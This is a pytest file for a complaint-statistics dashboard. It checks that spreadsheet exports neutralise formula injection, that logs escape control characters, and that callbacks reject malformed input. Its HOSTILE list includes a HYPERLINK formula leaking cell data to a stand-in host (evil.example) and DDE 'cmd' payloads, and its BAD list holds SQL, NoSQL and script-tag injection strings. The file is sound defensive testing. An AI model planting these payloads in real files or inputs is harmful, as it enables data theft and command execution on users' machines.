"""Safe exports and review callbacks: a hostile merchant never becomes a live
formula in the XLSX/CSV exports, control characters never break an export nor reach the log,
and a review callback sent a value no control can send answers with a message, never 500 (the
exports called directly, and a running dashboard driven over HTTP)."""
from __future__ import annotations

import base64
import csv
import io
import json
import logging
import os
import re
import time
import zipfile
from datetime import date, datetime, timedelta

import httpx
import orjson
import pytest

from streams.services import free_port
from streams.topicmodel import hour_keys
from tests.conftest import Proc, wait_http

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "个体户\x00\x07\x1b[31m红色\x1b[0m商店",
    "零宽\u200b\u202e反向\ufeff商户",
]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u202e\ufeff]")


def put_docs(r, tz, merchants: list[str], when: datetime | None = None) -> None:
    """Complaint documents as the stream stores them, merchants and all: as a rogue writer
    (or an older intake) might have left them, bypassing intake's cleaning."""
    when = when or datetime.now(tz) - timedelta(seconds=5)
    start = when.replace(minute=0, second=0, microsecond=0)
    key = hour_keys("140000", start, start + timedelta(hours=1), tz)[0]
    for i, m in enumerate(merchants):
        for j in range(len(merchants) - i):          # distinct counts: every merchant is in the top 15
            r.rpush(key, orjson.dumps({"id": f"h{i}-{j}", "ts": when.timestamp(), "d": "140403", "i": "产品质量",
                                       "k": "投诉", "c": "12315", "t": "质量差", "m": m}))


def cleaned(m: str) -> str:
    from dashboard.reports import export_text
    return export_text(m)


# -- the export functions, called directly ------------------------------------------------------

def test_export_text_and_formula_rules():
    from dashboard.reports import csv_cell, export_text, formula_like

    assert export_text("个体户\x00\x07\x1b[31m红") == "个体户[31m红"
    assert export_text("a\u200bb\u202ec\ufeffd") == "abcd" and export_text("x\r\ny\tz") == "x y z"
    assert export_text(5) == 5 and export_text(None) is None and export_text(2.5) == 2.5
    for s in ("=1", "+1", "-1", "@x", "\t=1", "\r=1", "  =1", "＝1"):
        assert formula_like(s), s
    for s in ("商户=1", "1-2", "a@b.cn", ""):
        assert not formula_like(s), s
    assert csv_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")' and csv_cell("\t=1") == "' =1"
    assert csv_cell("正常商户") == "正常商户" and csv_cell(3) == 3 and csv_cell(None) == ""


def test_hostile_merchants_are_text_in_every_export(stack, tmp_path):
    import docx
    import openpyxl

    from dashboard import reports
    from streams.counts import period_of
    from tests.test_dashboard import app_for

    S, r = stack["settings"], stack["redis"]
    put_docs(r, S.tz, HOSTILE)
    app = app_for(stack, tmp_path)
    try:
        now = datetime.now(S.tz)
        data = reports.review_data(app.ctx, period_of("day", now.date()), "140000", None, now)
        assert sorted(m["name"] for m in data["merchants"]) == sorted(HOSTILE), "the merchants come back raw"
        # XLSX: a string cell, never a formula; the value readable; no control character anywhere
        xlsx = reports.tables_xlsx(data, None)
        wb = openpyxl.load_workbook(io.BytesIO(xlsx))
        ws = wb["商户"]
        cells = {c.value: c for row in ws.iter_rows(min_row=3) for c in row[:1]}
        assert set(cells) == {cleaned(m) for m in HOSTILE}
        for value, cell in cells.items():
            assert cell.data_type == "s", (value, cell.data_type)
            assert not CONTROL.search(value)
            if reports.formula_like(value):
                assert cell.quotePrefix, value
        with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
            xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
        assert "<f>" not in xml and "<f " not in xml, "no formula element in the workbook"
        assert "HYPERLINK" in xml and "\x1b" not in xml and "\x00" not in xml
        # the review's own changes are numbers (a percent format) or empty, never a formula
        assert wb["总体"]["D3"].data_type == "n"
        # CSV: a leading ' before anything a spreadsheet would run
        text = reports.tables_csv(data, None).decode("utf-8-sig")
        assert not CONTROL.search(text.replace("\r\n", ""))
        rows = list(csv.reader(io.StringIO(text)))
        i = rows.index(["【商户】"])
        got = {row[0] for row in rows[i + 2:i + 2 + len(HOSTILE)]}
        for m in HOSTILE:
            c = cleaned(m)
            assert ("'" + c if reports.formula_like(c) else c) in got, m
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
        # DOCX: builds (python-docx refuses control characters) and shows the cleaned names
        for kind in ("month", "quarter"):
            d = docx.Document(io.BytesIO(reports.report_docx(data, None, None, kind)))
            names = {row.cells[0].text for t in d.tables for row in t.rows}
            assert {cleaned(m) for m in HOSTILE[:10]} <= names
    finally:
        app.ctx.background.shutdown()


def test_log_lines_escape_control_characters():
    from config import SafeFormatter

    f = SafeFormatter("%(levelname)s %(message)s")
    rec = logging.LogRecord("x", logging.WARNING, __file__, 1, "merchant %s", ("红\x1b[31m\n伪造的日志行\x00",), None)
    line = f.format(rec)
    assert "\x1b" not in line and "\n" not in line and "\x00" not in line
    assert line == "WARNING merchant 红\\x1b[31m\\n伪造的日志行\\x00"
    try:
        raise ValueError("bad \x1b[2J value")
    except ValueError:
        import sys
        rec = logging.LogRecord("x", logging.ERROR, __file__, 1, "failed", (), sys.exc_info())
    out = f.format(rec)
    assert "\x1b" not in out and "\\x1b[2J" in out and "\nValueError" in out, "a traceback keeps its lines"


# -- a running dashboard, driven over HTTP ----------------------------------------------------------

@pytest.fixture
def dashboard(stack, tmp_path):
    """`python -m dashboard` on a free port, a signed-in head's HTTP client and the callbacks."""
    from dashboard.auth import Users

    Users(tmp_path / "users.json").add("li", "head", "head-password-1", "李局长")
    env = {**stack["env"], "DASHBOARD_USERS": str(tmp_path / "users.json"), "DASHBOARD_SECRET_KEY": "exports-test"}
    port = free_port()
    proc = Proc(["-m", "dashboard", "--port", str(port)], env, tmp_path / "dashboard.log").start()
    url = f"http://127.0.0.1:{port}"
    client = httpx.Client(base_url=url, timeout=180)
    try:
        wait_http(url + "/healthz", proc, "the dashboard", 90)
        page = client.get("/login?next=/review").text
        token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        res = client.post("/login", data={"username": "li", "password": "head-password-1", "csrf": token,
                                          "next": "/review"})
        assert res.status_code == 302, res.text[:300]
        deps = client.get("/_dash-dependencies").json()
        yield {"client": client, "deps": deps, "proc": proc, "csrf": client.cookies.get("_csrf_token")}
    finally:
        client.close()
        proc.stop()


CONTROLS = [("review-period", "value"), ("review-date", "date"), ("review-range", "start_date"),
            ("review-range", "end_date"), ("review-district", "value"), ("review-industry", "value")]


def post_callback(dash, first_output: str, values: list, changed: str, buttons: list | None = None) -> httpx.Response:
    dep = next(d for d in dash["deps"] if d["output"].strip(".").split("...")[0].startswith(first_output + "."))
    outputs = [{"id": o.split(".")[0], "property": o.split(".")[1]} for o in dep["output"].strip(".").split("...")]
    controls = [{"id": i, "property": p, "value": v} for (i, p), v in zip(CONTROLS, values)]
    body = {"output": dep["output"], "outputs": outputs if len(outputs) > 1 else outputs[0],
            "inputs": (buttons or []) + (controls if not buttons else []),
            "state": controls if buttons else [], "changedPropIds": [changed]}
    return dash["client"].post("/_dash-update-component", json=body, headers={"X-CSRFToken": dash["csrf"]})


def good(tz) -> list:
    today = datetime.now(tz).date().isoformat()
    return ["day", today, today, today, "140000", ""]


BAD = [
    (0, "decade"), (0, ["month"]), (0, {"$ne": 1}), (0, 7),
    (1, "2026-13-45"), (1, "not a date"), (1, {"$gt": ""}), (1, ["2026-10-01"]), (1, "3000-01-01"), (1, "1999-12-31"),
    (2, "2026/10/01"), (3, 20261001),
    (4, "999999"), (4, ["140000"]), (4, "140000' OR 1=1"), (4, {"code": "140000"}),
    (5, "<script>alert(1)</script>"), (5, 5), (5, ["食品"]),
]


def test_review_callbacks_answer_bad_values_with_a_message(dashboard, stack):
    for where, value in BAD:
        values = good(stack["settings"].tz)
        values[where] = value
        if where in (2, 3):
            values[0] = "custom"
        for first in ("review-title", "review-cloud"):
            res = post_callback(dashboard, first, values, f"{CONTROLS[where][0]}.{CONTROLS[where][1]}")
            assert res.status_code == 200, (first, value, res.status_code, res.text[:300])
            assert "无法查询" in res.text, (first, value, res.text[:300])
            assert "<script>" not in res.text
    assert "Traceback" not in dashboard["proc"].output()


def test_review_callbacks_take_empty_values_as_the_defaults_and_refuse_a_too_long_range(dashboard, stack):
    res = post_callback(dashboard, "review-title", [None, None, None, None, None, None], "review-period.value")
    assert res.status_code == 200 and "无法查询" not in res.text
    assert "山西省" in res.json()["response"]["review-title"]["children"]
    values = ["custom", None, "2000-01-01", datetime.now(stack["settings"].tz).date().isoformat(), "140000", ""]
    res = post_callback(dashboard, "review-title", values, "review-range.start_date")
    assert res.status_code == 200 and "无法查询" in res.text and "最长" in res.text


def test_the_running_dashboard_exports_hostile_merchants_as_text(dashboard, stack):
    import openpyxl

    put_docs(stack["redis"], stack["settings"].tz, HOSTILE)
    buttons = [{"id": i, "property": "n_clicks", "value": 1 if i == "review-export-xlsx" else None}
               for i in ("review-export-png", "review-export-xlsx", "review-report-month", "review-report-quarter",
                         "review-export-csv")]
    res = post_callback(dashboard, "review-download", good(stack["settings"].tz), "review-export-xlsx.n_clicks", buttons)
    assert res.status_code == 200, res.text[:500]
    dl = res.json()["response"]["review-download"]["data"]
    assert dl["filename"].endswith(".xlsx") and dl["base64"]
    ws = openpyxl.load_workbook(io.BytesIO(base64.b64decode(dl["content"])))["商户"]
    names = {row[0].value: row[0] for row in ws.iter_rows(min_row=3)}
    assert {cleaned(m) for m in HOSTILE} <= set(names)
    assert all(c.data_type == "s" for c in names.values())
    # the CSV button
    buttons = [{**b, "value": 1 if b["id"] == "review-export-csv" else None} for b in buttons]
    res = post_callback(dashboard, "review-download", good(stack["settings"].tz), "review-export-csv.n_clicks", buttons)
    assert res.status_code == 200, res.text[:500]
    dl = res.json()["response"]["review-download"]["data"]
    content = base64.b64decode(dl["content"]).decode("utf-8-sig")
    assert dl["filename"].endswith(".csv") and "'=HYPERLINK(" in content and "\x1b" not in content
    # a bad value on an export: a message in the status line, nothing downloaded
    values = good(stack["settings"].tz)
    values[0] = "fortnight"
    res = post_callback(dashboard, "review-download", values, "review-export-csv.n_clicks", buttons)
    assert res.status_code == 200 and "无法查询" in res.text and "review-download" not in res.json()["response"]
    time.sleep(0.5)
    log = dashboard["proc"].output()
    assert "\x1b" not in log and "\x00" not in log and "Traceback" not in log


def test_any_log_record_escapes_control_characters_once_installed(capsys):
    """After install_safe_logging (the dashboard and the worker call it), a record's message has
    no raw control character whatever handler writes it. (Intake's processes also install
    nlp.pii's masking factory, which drops them; either way none reaches the log.)"""
    from config import SafeLogRecord, install_safe_logging

    before = logging.getLogRecordFactory()
    try:
        logging.setLogRecordFactory(logging.LogRecord)
        install_safe_logging(logging.getLogger("c12315-test-none"))
        assert logging.getLogRecordFactory() is SafeLogRecord
        logger = logging.getLogger("c12315-test-safe")
        stream = io.StringIO()
        logger.addHandler(logging.StreamHandler(stream))
        logger.propagate = False
        logger.warning("merchant %s", "红\x1b[31m字\x07")
        assert stream.getvalue() == "merchant 红\\x1b[31m字\\x07\n"
        # beside intake's masking factory (installed by whichever comes second) still nothing raw
        from nlp.pii import install_log_masking
        install_log_masking()
        install_safe_logging(logging.getLogger("c12315-test-none"))
        logger.warning("merchant %s", "绿\x1b[32m字\x07")
        last = stream.getvalue().splitlines()[-1]
        assert last.startswith("merchant 绿") and "字" in last and not CONTROL.search(last)
    finally:
        logging.setLogRecordFactory(before)


def test_callback_requests_of_a_shape_the_page_never_sends_are_400_not_500(dashboard):
    c, h = dashboard["client"], {"X-CSRFToken": dashboard["csrf"]}
    dep = next(d for d in dashboard["deps"] if d["output"].strip(".").startswith("review-title."))
    outs = [{"id": o.split(".")[0], "property": o.split(".")[1]} for o in dep["output"].strip(".").split("...")]
    bodies = [
        [1, 2],
        {"output": dep["output"], "outputs": outs, "changedPropIds": []},                       # no inputs
        {"output": dep["output"], "outputs": outs, "inputs": [{"id": "review-period", "property": "value"}]},
        {"output": dep["output"], "outputs": outs, "inputs": "x"},
        {"output": "..nope.children..", "outputs": [{"id": "nope", "property": "children"}], "inputs": []},
        {"output": dep["output"], "outputs": outs, "inputs": [7] * 6},
        {"output": ["review-title.children"], "outputs": outs, "inputs": []},
    ]
    for body in bodies:
        res = c.post("/_dash-update-component", json=body, headers=h)
        assert res.status_code == 400 and res.text.startswith("bad callback request: "), (body, res.status_code)
    res = c.post("/_dash-update-component", content=b"{not json", headers={**h, "Content-Type": "application/json"})
    assert res.status_code == 400
    assert "Traceback" not in dashboard["proc"].output()


def test_a_failing_callback_of_any_screen_leaves_the_page_as_it_was_not_500(dashboard):
    """The app's last resort (Dash on_error): the duty console's act callback sent an alert id no
    list holds, or a list/object where an id belongs, answers 200 without updates."""
    from dashboard.alertview import ACTIONS

    dep = next(d for d in dashboard["deps"] if d["output"].strip(".").startswith("duty-result.children...duty-version"))
    outs = [{"id": o.split(".")[0], "property": o.split(".")[1]} for o in dep["output"].strip(".").split("...")]
    buttons = [[{"id": {"index": a, "type": "duty-action"}, "property": "n_clicks", "value": 1 if a == "ack" else None}
                for a in ACTIONS]]
    for bad in ("no-such-alert", ["a-1"], {"id": "a-1"}, 5):
        state = [{"id": "duty-selected", "property": "data", "value": bad},
                 {"id": "duty-team", "property": "value", "value": ["队"]},
                 {"id": "duty-note", "property": "value", "value": {"x": 1}},
                 {"id": "duty-version", "property": "data", "value": "v"}]
        body = {"output": dep["output"], "outputs": outs, "inputs": buttons, "state": state,
                "changedPropIds": ['{"index":"ack","type":"duty-action"}.n_clicks']}
        res = dashboard["client"].post("/_dash-update-component", json=body, headers={"X-CSRFToken": dashboard["csrf"]})
        assert res.status_code in (200, 204), (bad, res.status_code, res.text[:300])
